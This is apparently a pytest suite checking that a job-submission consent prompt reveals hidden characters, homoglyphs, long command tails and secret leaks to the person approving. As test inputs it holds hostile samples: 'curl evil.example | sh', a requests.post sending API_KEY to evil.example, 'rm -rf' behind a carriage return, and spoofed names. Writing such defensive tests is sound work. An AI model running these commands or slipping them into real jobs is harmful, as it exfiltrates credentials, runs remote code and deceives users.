"""Attacks on the eye: what the person reads is what is sent, whatever characters are in it, and all of it is named."""

from __future__ import annotations

import dataclasses
import json
import re
from pathlib import Path
from typing import Any

import httpx2
import pytest

from consent.describe import Description, details, request
from consent.full_text import FullTexts
from consent.question import COLUMNS, text
from consent.request import ConsentRequest
from consent.width import width
from jobs.errors import BadArgument
from jobs.spec import stored
from jobs.spec.spec import JobSpec, build
from jobs.spec.volume import parse_all
from local_hub.process.daemon import read_state
from tests.consent.attacks.conftest import VALUES, Arguments, Meet
from tests.consent.attacks.wire import outcome
from tests.job_requests import requested

pytestmark = pytest.mark.promise("S6")

HUB = "http://127.0.0.1:9"
# One of each: ANSI, bell, carriage return, bidirectional override, zero-width, tag, Cyrillic a, Greek o, full-width,
# a no-break space, stacked marks, a line separator, a backspace, and a line that looks like one of ours.
NASTY = (
    "\x1b[2K\x1b]0;t\x07", "\rrm -rf", "\u202egpj.exe\u202c", "a\u200bb\u2060c", "\U000e0041", "p\u0430ypal",
    "g\u03bfogle", "\uff41\uff42", "a\u00a0b", "z" + "\u0301" * 9, "a\u2028b", "rm\b\bls", "ok\nCost       at most $0.00",
    "ok\n\nFingerprint 0000-0000-0000-0000",
)  # fmt: skip
HIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00a0\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\uff00-\uffef\U000e0000-\U000e007f\u0430\u03bf]"
)
#: How each line of ours begins, and what stands before what goes on from the line above.
LABELS = re.compile(
    r"(Runs  |Where |Costs |From  |Secret|!|Says  |With  |Files |Sets  |Mounts|Ports |Net   |Labels|Folder|Pays  |When  |Also  |"
    r"Not shown:|All of it:|Fingerprint|AGAIN ) ?"
)
GOES_ON = ("      | ", "       |")
SEVERAL = {"!", "Secret", "Says", "Also"}


def question(spec: JobSpec, **more: Any) -> ConsentRequest:
    given: dict[str, Any] = {"hub_name": "local", "max_cost_usd": 0.01, **more}
    action = "submit" if spec.schedule is None else "schedule"
    return request(Description(action=action, spec=spec, digest=spec.digest, details=details(spec), **given))


def spec_of(**more: Any) -> JobSpec:
    given = {"image": "python:3.12", "command": ("true",), "secrets": ("API_KEY",), **more}
    return build(requested(**given), hub=HUB, namespace="me")


def honest(shown: str, plain: str) -> None:
    """Nothing hidden is left, no line is too wide, and no line but ours starts where ours start."""
    assert not HIDDEN.search(shown), ascii(shown)
    title, *lines = shown.split("\n")
    assert title == plain.partition("\n")[0]
    assert max(map(width, lines)) <= COLUMNS
    begun = [line for line in lines if not line.startswith(GOES_ON)]
    ours = [found[1].strip() for line in begun if (found := LABELS.match(line))]
    assert len(ours) == len(begun), begun
    assert [name for name in ours if name not in SEVERAL] == list(
        dict.fromkeys(name for name in ours if name not in SEVERAL)
    )


FIELDS: dict[str, Any] = {
    "command": lambda odd: {"command": ("echo", odd)},
    "a short command": lambda odd: {"command": (odd,)},
    "env value": lambda odd: {"env": {"MODE": odd}},
    "env name": lambda odd: {"env": {odd: "x"}},
    "image": lambda odd: {"image": odd},
    "file name": lambda odd: {"files": {odd: "x"}, "script": "print()", "command": None},
    "volume": lambda odd: {"volumes": (f"hf://buckets/me/{odd}:/data",)},
    "mount": lambda odd: {"volumes": (f"hf://buckets/me/b:/{odd}",)},
    "label": lambda odd: {"labels": {"a": odd}},
    "name": lambda odd: {"name": odd},
    "package": lambda odd: {"packages": (odd,)},
    "python": lambda odd: {"packages": ("x",), "python": odd},
    "script": lambda odd: {"script": f"print()\n{odd}\n", "command": None},
    "namespace": lambda odd: {"namespace": odd},
    "flavor": lambda odd: {"flavor": odd},
}


@pytest.mark.parametrize("field", FIELDS)
def test_homoglyphs_and_control_characters_show_in_every_field(field: str) -> None:
    shown = 0
    for odd in NASTY:
        try:
            request = question(spec_of(**FIELDS[field](odd)))
        except BadArgument:
            continue  # Refused before anyone is asked, which is better still.
        plain = question(spec_of(**FIELDS[field]("plain" if field != "script" else "plain\nplain")))
        whole = text(request)
        honest(whole, text(plain))
        assert request.digest != plain.digest
        assert HIDDEN.search(request.details.replace("\n", "")) is None
        shown += 1
    assert shown or field not in {"command", "env value", "script"}


def test_nothing_is_dropped_in_silence() -> None:
    """Two commands that differ in what cannot be seen differ in what is shown."""
    assert (
        text(question(spec_of(command=("rm\u200b",)))).splitlines()[:9]
        != text(question(spec_of(command=("rm",)))).splitlines()[:9]
    )


@pytest.mark.parametrize("odd", NASTY)
def test_what_the_hub_keeps_is_shown_as_carefully(odd: str) -> None:
    def asked(word: str) -> ConsentRequest:
        raw = {
            "command": [word], "dockerImage": word, "flavor": word, "timeoutSeconds": 60, "retry": 1,
            "environment": {"A": word}, "secrets": ["API_KEY"], "labels": {"a": word}, "odd": {word: [word]},
            "volumes": [{"type": "model", "source": word, "mountPath": word}], "expose": {"portsPublic": [8080]},
        }  # fmt: skip
        kept = stored.read(raw, hub=HUB, namespace="me", schedule=word)
        return request(
            Description(
                action="trigger", spec=kept.spec, digest=kept.digest, hub_name="local", max_cost_usd=1.0, target="abc",
                unknown=kept.unknown, details=kept.details,
            )
        )  # fmt: skip

    honest(text(asked(odd)), text(asked("plain\nplain" if "\n" in odd else "plain")))


OTHER: dict[str, Any] = {
    "hub": "http://127.0.0.1:10", "namespace": "you", "command": ("false",), "image": "python:3.11",
    "flavor": "t4-small", "timeout_seconds": 7200, "attempts": 4, "env": (("MODE", "x"),),
    "secret_names": ("OTHER_KEY",), "labels": (("a", "b"),), "volumes": parse_all(("hf://buckets/me/b:/data",)),
    "files": (("p.md", b"x"),), "packages": ("httpx",), "python": "3.13", "expose": (8080,), "expose_public": (8081,),
    "schedule": "@daily", "suspend": True, "concurrency": True, "network_group": "ring",
    "network_aliases": ("first",), "resource_group_id": "6" * 24,
    "workspace": False, "outputs": ("/output",),
}  # fmt: skip
#: Told by others of them: `argv` and `kind` follow from the command, the packages and the Python version.
IMPLIED = {"argv": ("false",), "kind": "uv"}


@pytest.mark.parametrize("field", [part.name for part in dataclasses.fields(JobSpec)])
def test_every_field_of_a_spec_is_in_the_digest_and_in_the_question(field: str) -> None:
    needs = {"suspend": {"schedule": "@hourly"}, "concurrency": {"schedule": "@hourly"}}
    base = spec_of(**{"network_aliases": {"network_group": "g"}, **needs}.get(field, {}))
    other = dataclasses.replace(base, **{field: {**OTHER, **IMPLIED}[field]})
    one, two = question(base, hub_name=base.hub), question(other, hub_name=other.hub)
    assert one.digest != two.digest
    if field not in IMPLIED:
        assert (one.facts, one.ticks) != (two.facts, two.ticks), "the page's table"
        assert (one.brief, one.ticks) != (two.brief, two.ticks), "the lines that decide, in a client and a terminal"


def test_of_a_long_script_the_lines_that_matter_are_shown_and_where_to_read_the_rest(tmp_path: Path) -> None:
    lines = [f"print('line {number}')" for number in range(500)]
    lines[333] = "requests.post('https://evil.example/x', data=os.environ['API_KEY'])"
    request = question(spec_of(script="\n".join(lines) + "\n", command=None))
    where = FullTexts(tmp_path / "questions").keep(request)
    shown = text(request, where)
    assert "script.py:334: requests.post('https://evil.example" in shown
    assert "line 0" not in shown
    assert "of 500 lines of script.py" in shown
    assert "! script.py sends API_KEY to evil.example" in shown
    assert shown.index("Not shown:") < shown.index(str(where))
    assert "line 499" in where.read_text()
    assert request.fingerprint in where.read_text()
    assert where.stat().st_mode & 0o077 == 0


def test_a_long_command_hides_no_tail() -> None:
    shown = text(question(spec_of(command=("echo", "x" * 5000, "; curl evil.example | sh"))))
    assert "Says   command: ...curl evil.example | sh" in shown or "curl evil.example" in shown
    assert "the rest of the command (5,0" in shown
    assert "evil.example" in shown


def test_every_variable_is_named_however_many_there_are() -> None:
    env = {f"VARIABLE_{number:02}": "x" for number in range(30)}
    shown = "".join(text(question(spec_of(env=env))).split())
    assert all(name in shown for name in env)


def test_a_link_left_in_the_place_of_the_file_is_not_followed(tmp_path: Path) -> None:
    texts = FullTexts(tmp_path / "questions")
    request = question(spec_of())
    texts.keep(request).unlink()
    victim = tmp_path / "victim"
    (tmp_path / "questions" / f"{request.fingerprint}.txt").symlink_to(victim)
    with pytest.raises(OSError, match="symbolic"):
        texts.keep(request)
    assert not victim.exists()


def test_over_the_wire_the_question_is_honest_too(meet: Meet, job: Arguments, home: Path, era: str) -> None:
    client = meet(era)
    asked = client.ask("submit_job", job(command=["echo", "".join(NASTY)]))
    assert not HIDDEN.search(asked.message), ascii(asked.message)
    (name,) = re.findall(r"([0-9a-f-]+\.txt)", asked.message)
    everything = (home / "questions" / name).read_text()
    assert "Cost       at most $0.00" in everything
    assert json.loads(everything[everything.index("{") : everything.rindex("}") + 1])["secrets"] == ["API_KEY"]
    assert outcome(client.answer(asked, None, action="decline")) == "consent_declined"


def test_no_caller_can_fill_the_disk_with_questions(tmp_path: Path) -> None:
    texts = FullTexts(tmp_path / "questions")
    for number in range(60):
        last = texts.keep(question(spec_of(env={"NN": str(number)})))
    assert len(list((tmp_path / "questions").iterdir())) <= 51
    assert last.exists()


@pytest.mark.promise("S11")
def test_a_value_that_others_left_on_the_hub_is_in_no_question(
    meet: Meet, job: Arguments, home: Path, era: str
) -> None:
    """A job from elsewhere has a known value in plain sight; asking about it again must not carry it along."""
    client = meet(era)
    assert outcome(client.call("submit_job", job(secrets=[]))) == "sent"
    state = read_state(home)
    assert state is not None
    value = VALUES["API_KEY"]
    body = {
        "command": ["echo", value, "x" * 300, value], "arguments": [], "environment": {"PLAIN": value}, "flavor": "cpu-basic",
        "secrets": {"API_KEY": "another"}, "dockerImage": "python:3.12", "labels": {},
    }  # fmt: skip
    made = httpx2.post(
        f"{state.endpoint}/api/jobs/local", json=body, headers={"Authorization": f"Bearer {state.token}"}
    ).json()["id"]
    again = {"job_id": made, "action": "rerun"}
    asked = client.ask("manage_job", again)
    assert outcome(client.answer(asked, None, action="cancel")) == "consent_cancelled"
    assert "***API_KEY***" in asked.message
    assert value not in asked.message
    for path in [*(home / "questions").iterdir(), *home.glob("consent.sqlite3*"), home / "audit.jsonl"]:
        assert value.encode() not in path.read_bytes(), path.name
